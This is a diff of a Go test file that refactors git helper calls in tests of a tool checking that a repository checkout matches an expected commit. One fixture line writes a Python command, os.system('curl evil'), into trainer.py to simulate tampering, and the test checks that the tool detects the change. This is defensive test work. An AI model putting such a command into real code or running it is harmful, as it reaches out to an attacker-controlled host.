@@ -17,20 +17,14 @@ import (
 // which a tag would name.
 func gitRepo(t *testing.T) (string, string) {
 	t.Helper()
-	git := clitest.Tool(t, "git")
 	dir := t.TempDir()
-	run := func(args ...string) string {
-		res := clitest.Run(t, []string{"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com"}, git, append([]string{"-C", dir}, args...)...)
-		require.Equal(t, 0, res.Code, res.Stderr)
-		return strings.TrimSpace(res.Stdout)
-	}
-	run("init", "-q")
+	clitest.Git(t, dir, "init", "-q")
 	require.NoError(t, os.WriteFile(filepath.Join(dir, "trainer.py"), []byte("print('v0.6.0')\n"), 0o644))
-	run("add", "trainer.py")
-	run("commit", "-qm", "v0.6.0")
-	first := run("rev-parse", "HEAD")
+	clitest.Git(t, dir, "add", "trainer.py")
+	clitest.Git(t, dir, "commit", "-qm", "v0.6.0")
+	first := clitest.Git(t, dir, "rev-parse", "HEAD")
 	require.NoError(t, os.WriteFile(filepath.Join(dir, "trainer.py"), []byte("print('moved')\n"), 0o644))
-	run("commit", "-qam", "a later commit a moved tag could name")
+	clitest.Git(t, dir, "commit", "-qam", "a later commit a moved tag could name")
 	return dir, first
 }
 
@@ -64,17 +58,17 @@ func TestSubmitterVerifiesTheCheckout(t *testing.T) {
 		}
 		return out, code
 	}
-	head := clitest.Run(t, nil, clitest.Tool(t, "git"), "-C", repo, "rev-parse", "HEAD").Stdout
+	head := clitest.Git(t, repo, "rev-parse", "HEAD")
 	out, code := verify(repo, commit)
 	assert.Equal(t, 1, code, out)
-	assert.Contains(t, out, "is at "+strings.TrimSpace(head)+", not "+commit)
+	assert.Contains(t, out, "is at "+head+", not "+commit)
 
-	out, code = verify(repo, strings.TrimSpace(head))
+	out, code = verify(repo, head)
 	require.Equal(t, 0, code, out)
 	assert.Contains(t, out, "unchanged")
 
 	require.NoError(t, os.WriteFile(filepath.Join(repo, "trainer.py"), []byte("import os; os.system('curl evil')\n"), 0o644))
-	out, code = verify(repo, strings.TrimSpace(head))
+	out, code = verify(repo, head)
 	assert.Equal(t, 1, code, out)
 	assert.Contains(t, out, "differs from")
 	assert.Contains(t, out, "M trainer.py")
